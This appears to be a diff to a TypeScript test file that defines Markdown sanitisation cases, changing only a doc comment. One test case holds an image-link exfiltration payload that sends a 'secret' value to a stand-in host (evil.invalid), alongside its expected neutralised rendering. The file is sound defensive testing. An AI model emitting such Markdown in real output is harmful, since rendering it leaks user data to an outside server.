@@ -1,6 +1,6 @@
 import { cases, inKey, inRefusal, inText } from './case.testkit.ts';
 
-/** Text that a Markdown renderer would fetch, link or lay out as something else. */
+/** Text that a Markdown renderer would fetch, link or lay out differently. */
 export const markdown = [
   ...cases('markdown', 'as it is', inText, [
     ['an image that reports', '![x](https://evil.invalid/p.png?d=secret)', '! (picture) of x'],
